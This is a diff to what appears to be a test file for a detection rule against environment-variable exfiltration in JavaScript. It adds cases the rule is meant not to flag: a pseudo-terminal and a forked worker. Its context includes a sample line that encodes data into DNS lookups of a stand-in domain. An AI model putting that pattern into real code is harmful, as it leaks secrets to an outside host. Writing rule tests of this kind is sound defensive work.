@@ -25,3 +25,11 @@ dns.lookup(enc + ".d.example.net", () => {});
 spawn("npm", ["test"], { env: { ...process.env, CI: "1" } });
 // ok: js-exfil-environment
 fetch("https://api.github.com/user", { headers: { Authorization: `token ${process.env.GH_TOKEN}` } });
+
+// A terminal given the environment, then typed into (node-pty's demo): not a network write.
+const term = pty.spawn(shell, [], { name: "xterm-color", env: process.env });
+// ok: js-exfil-environment
+term.write("ls\r");
+const child = child_process.fork("worker.js", [], { env: process.env });
+// ok: js-exfil-environment
+child.send({ cmd: "start" });
